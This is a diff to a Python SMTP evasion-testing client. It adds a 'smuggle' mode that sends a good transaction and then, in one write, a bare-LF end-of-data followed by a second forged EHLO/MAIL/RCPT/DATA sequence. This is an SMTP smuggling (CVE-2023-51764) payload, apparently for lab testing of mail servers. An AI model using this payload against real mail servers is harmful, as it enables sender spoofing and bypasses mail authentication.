@@ -13,6 +13,10 @@ usage: evasion_client.py MODE SERVER_IP HELO RCPT
   vt         EHLO, MAIL, then "RCPT\\x0bTO:<RCPT>" (a vertical tab as delimiter)
   longline   EHLO, MAIL, a 5,000-byte NOOP line, then RCPT
   rsets      EHLO, then 33 RSETs, MAIL and RCPT in one write
+  smuggle    EHLO HELO, MAIL, RCPT (a good transaction), DATA, then a body
+             ending "\\n.\\n" (bare LF) followed by "EHLO localhost", MAIL,
+             RCPT TO:<RCPT> and DATA in the same write: SMTP smuggling
+             (CVE-2023-51764): "replies" lists every reply read after it
 Prints {"step": [reply lines], ...}; for the one-write modes "group" holds
 every reply read after the write, in order.
 """
@@ -55,6 +59,27 @@ def main():
         got["greeting"] = read_reply(f)
         s.sendall(("EHLO %s\r\n" % helo).encode())
         got["ehlo"] = read_reply(f)
+    if how == "smuggle":
+        s.sendall(b"MAIL FROM:<smuggler@example.org>\r\n")
+        got["mail"] = read_reply(f)
+        s.sendall(b"RCPT TO:<first@lab-mail.net>\r\n")
+        got["first_rcpt"] = read_reply(f)
+        s.sendall(b"DATA\r\n")
+        got["data"] = read_reply(f)
+        s.sendall(b"Subject: hello\r\n\r\nhello\n.\nEHLO localhost\r\n"
+                  b"MAIL FROM:<evil@example.org>\r\n" +
+                  ("RCPT TO:<%s>\r\n" % rcpt).encode() +
+                  b"DATA\r\nSubject: smuggled\r\n\r\nx\r\n.\r\n")
+        s.settimeout(4)
+        replies = []
+        while True:
+            r = read_reply(f)
+            if not r:
+                break
+            replies.append(r)
+        got["replies"] = replies
+        print(json.dumps(got))
+        return
     if how == "rsets":
         group = b"RSET\r\n" * 33 + b"MAIL FROM:<evasion@example.org>\r\n"
         s.sendall(group + ("RCPT TO:<%s>\r\n" % rcpt).encode())
